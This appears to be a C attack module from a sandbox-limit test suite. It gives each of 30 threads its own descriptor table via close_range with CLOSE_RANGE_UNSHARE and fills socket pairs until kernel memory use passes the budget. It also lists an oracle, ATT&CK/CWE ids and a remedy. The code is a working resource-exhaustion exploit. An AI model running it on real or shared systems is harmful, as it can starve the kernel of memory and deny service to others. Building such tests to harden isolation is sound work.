// SPDX-License-Identifier: MIT
/*
 * tables-of-threads.c - RLIMIT_NOFILE is each table's, and a thread may have one of its own.
 *
 * Goal:  more memory than the budget.
 * Means: close_range(2) with CLOSE_RANGE_UNSHARE gives a thread its own table of descriptors, as
 *        clone(2) without CLONE_FILES does. Thirty threads have 28 full pairs of sockets each, and
 *        /proc/PID/fd shows those of the first thread.
 */
#include "attacks/attack.h"

#include <pthread.h>
#include <stdint.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { THREADS = 30, PAIRS = 28, UNSHARE = 2 };

static char block[32 << 10];

static void *fill(void *unused)
{
	int s[2];

	(void)unused;

	if (syscall(SYS_close_range, ~0u, ~0u, UNSHARE))
		return NULL;
	for (int i = 0; i < PAIRS; i++) {
		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, s))
			break;
		for (int end = 0; end < 2; end++)
			while (send(s[end], block, sizeof(block), 0) > 0)
				continue;
	}
	sleep(4);
	return NULL;
}

static enum claim run(const struct brief *b)
{
	pthread_attr_t a;
	pthread_t t;

	memset(block, 'x', sizeof(block));
	pthread_attr_init(&a);
	pthread_attr_setstacksize(&a, 64 << 10);
	attempting(b);
	for (int i = 0; i < THREADS; i++)
		if (pthread_create(&t, &a, fill, NULL))
			return denied("pthread_create");
	sleep(3);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "threads that have tables of descriptors of their own, full of pairs of sockets",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "no CLOSE_RANGE_UNSHARE, CLONE_THREAD with CLONE_FILES only; a memory cgroup",
	.refs = (const char *const[]){ "close_range(2)", "clone(2)", NULL },
	.run = run,
};
